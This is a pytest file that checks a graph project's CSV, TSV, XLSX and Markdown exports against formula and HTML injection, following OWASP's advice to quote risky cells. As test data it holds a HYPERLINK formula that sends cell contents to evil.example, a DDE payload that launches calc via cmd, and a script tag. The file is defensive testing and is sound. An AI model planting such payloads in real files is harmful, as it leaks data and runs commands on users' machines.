"""Hostile text in labels and rationales: every file written for people shows it, never runs it.

A label ``=HYPERLINK(…)`` and a rationale ``@SUM(…)`` are put into a copy of the tiny project
(and of the catalogue fixture, for the report); each CSV/TSV/XLSX cell must start with the
quote OWASP advises, numbers such as the score ``-2`` must stay numbers, and the RDF must still
hold the text unchanged.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook  # type: ignore[import-untyped]
from rdflib import Dataset, Graph, Literal, URIRef
from rdflib.namespace import RDFS
from typer.testing import CliRunner

from aspen_graph.api import create_app
from aspen_graph.cli import main
from aspen_graph.config import Settings
from aspen_graph.namespaces import ASPEN
from aspen_graph.pipeline import run_build
from aspen_graph.pipeline.build import derive
from aspen_graph.queries import QueryCatalog
from aspen_graph.report import build_report
from aspen_graph.sources.spreadsheet import CODES_SHEET, write_template
from aspen_graph.sources.tables.kinds import TABLE_KINDS
from aspen_graph.store import OxigraphStore, open_store

REPO = Path(__file__).resolve().parents[2]
TINY = REPO / "tests" / "fixtures" / "projects" / "tiny"
LABEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RATIONALE = "@SUM(1+1) Priority one cuts marine pollution, which is what 14.1 asks."
P1 = "https://w3id.org/aspen/id/priority/tiny-p1"


def quoted(text: str) -> str:
    return "'" + text


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The tiny project with a formula as priority one's label and as a rationale, built."""
    root = tmp_path_factory.mktemp("hostile") / "project"
    shutil.copytree(TINY, root)
    (root / "ontology").mkdir()
    for path in (REPO / "ontology").glob("*.ttl"):
        shutil.copy2(path, root / "ontology" / path.name)
    shutil.copytree(REPO / "sparql", root / "sparql")
    plan = root / "data" / "graph" / "plan.ttl"
    turtle_label = LABEL.replace('"', '\\"')
    plan.write_text(
        plan.read_text("utf-8").replace('"Tiny priority one"@en', f'"{turtle_label}"@en'), "utf-8"
    )
    table = root / "data" / "tables" / "alignments.csv"
    table.write_text(
        table.read_text("utf-8").replace(
            '"Priority one cuts marine pollution, which is what 14.1 asks."', f'"{RATIONALE}"'
        ),
        "utf-8",
    )
    settings = Settings(root=root, dist_dir=root / "dist")
    result = run_build(settings, reason=False)
    assert result.ok, result.report.summary()
    return settings


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    return list(csv.DictReader(io.StringIO("".join(lines)), delimiter=delimiter))


def test_release_table_cells_are_quoted(hostile: Settings) -> None:
    rows = rows_of((hostile.dist / "alignments.csv").read_text("utf-8"))
    mine = [row for row in rows if row["subject"] == "priority:tiny-p1"]
    assert len(mine) == 3
    assert {row["subject_label"] for row in mine} == {quoted(LABEL)}
    assert quoted(RATIONALE) in {row["rationale"] for row in mine}
    # A genuine negative score stays a number.
    assert [row["score"] for row in rows if row["subject"] == "priority:tiny-p2"] == ["-2"]


def test_sssom_cells_are_quoted(hostile: Settings) -> None:
    rows = rows_of((hostile.dist / "alignments.sssom.tsv").read_text("utf-8"), "\t")
    labels = {row["subject_id"]: row["subject_label"] for row in rows}
    assert labels == {"priority:tiny-p1": quoted(LABEL), "priority:tiny-p2": "Tiny priority two"}


def test_rdf_keeps_the_original_text(hostile: Settings) -> None:
    dataset = Dataset()
    dataset.parse(hostile.dist / "aspen.trig", format="trig")
    assert next(iter(dataset.quads((URIRef(P1), RDFS.label, None, None))))[2] == Literal(
        LABEL, lang="en"
    )
    rationales = {str(o) for _, _, o, _ in dataset.quads((None, ASPEN.rationale, None, None))}
    assert RATIONALE in rationales
    assert quoted(LABEL) not in (dist := (hostile.dist / "aspen.nq").read_text("utf-8"))
    assert '"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")"@en' in dist


def test_catalogue_answer_as_csv_is_quoted(hostile: Settings) -> None:
    url = "/queries/alignments-by-element"
    with TestClient(create_app(hostile)) as client:
        p1 = client.get(url, params={"element": "priority:tiny-p1"}, headers={"Accept": "text/csv"})
        p2 = client.get(url, params={"element": "priority:tiny-p2"}, headers={"Accept": "text/csv"})
        as_json = client.get(url, params={"element": "priority:tiny-p1"}).json()
    assert (p1.status_code, p2.status_code) == (200, 200)
    assert quoted(RATIONALE) in {row["rationale"] for row in rows_of(p1.text)}
    assert [row["score"] for row in rows_of(p2.text)] == ["-2"]
    # JSON is data for programs, not a spreadsheet: the text as it is.
    assert RATIONALE in {row["rationale"]["value"] for row in as_json["rows"]}


def test_cli_query_csv_is_quoted(hostile: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASPEN_ROOT", str(hostile.root))
    monkeypatch.setenv("ASPEN_DIST_DIR", str(hostile.dist))
    args = ["query", "run", "alignments-by-element", "--format", "csv", "-p"]
    p1 = CliRunner().invoke(main._app, [*args, "element=priority:tiny-p1"])
    p2 = CliRunner().invoke(main._app, [*args, "element=priority:tiny-p2"])
    assert (p1.exit_code, p2.exit_code) == (0, 0), p1.output + p2.output
    assert quoted(RATIONALE) in {row["rationale"] for row in rows_of(p1.stdout)}
    assert [row["score"] for row in rows_of(p2.stdout)] == ["-2"]


def test_template_codes_stay_text(tmp_path: Path) -> None:
    kind = TABLE_KINDS["alignments"]
    column = next(iter(kind.columns))
    path = write_template(kind, tmp_path / "alignments.xlsx", codes={column: ["=1+1", "p1"]})
    workbook = load_workbook(path)
    cells = [workbook[CODES_SHEET].cell(row=row, column=1) for row in (2, 3)]
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("p1", "s")]


# --- the report ---------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script> | two"


@pytest.fixture(scope="module")
def hostile_mini(catalog: QueryCatalog) -> Iterator[OxigraphStore]:
    """The catalogue fixture with a formula and an HTML script as priority labels."""
    text = (REPO / "tests" / "fixtures" / "catalogue" / "mini.ttl").read_text("utf-8")
    text = text.replace('"Priority one"@en', "\"-1+cmd|' /C calc'!A0\"@en")
    text = text.replace('"Priority two"@en', f'"{SCRIPT}"@en')
    store = open_store()
    for name, turtle in (
        ("mini", text),
        ("schemes", (REPO / "ontology" / "aspen-schemes.ttl").read_text("utf-8")),
    ):
        graph = Graph()
        graph.parse(data=turtle, format="turtle")
        store.replace_graph(f"urn:test:{name}", graph)
    derive(store, catalog)
    yield store


def test_report_csv_cells_are_quoted(
    hostile_mini: OxigraphStore, catalog: QueryCatalog, tmp_path: Path
) -> None:
    files = build_report(
        hostile_mini,
        catalog,
        fmt="csv",
        out_dir=tmp_path,
        plan="plan:new",
        earlier="plan:old",
    )
    cells = [
        value
        for path in files
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")))
        for value in row
    ]
    assert "'-1+cmd|' /C calc'!A0" in cells
    assert "-1+cmd|' /C calc'!A0" not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c[1:2] == "1+")]


def test_report_markdown_escapes_html_and_pipes(
    hostile_mini: OxigraphStore, catalog: QueryCatalog, tmp_path: Path
) -> None:
    files = build_report(
        hostile_mini,
        catalog,
        fmt="md",
        out_dir=tmp_path,
        plan="plan:new",
        earlier="plan:old",
    )
    text = files[0].read_text("utf-8")
    assert "<script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt; \\| two" in text
    # Every table row still has as many cells as its header (an escaped pipe splits nothing).
    for block in text.split("\n\n"):
        lines = [line for line in block.splitlines() if line.startswith("|")]
        widths = {len(line.replace("\\|", "").split("|")) for line in lines}
        assert len(widths) <= 1, block
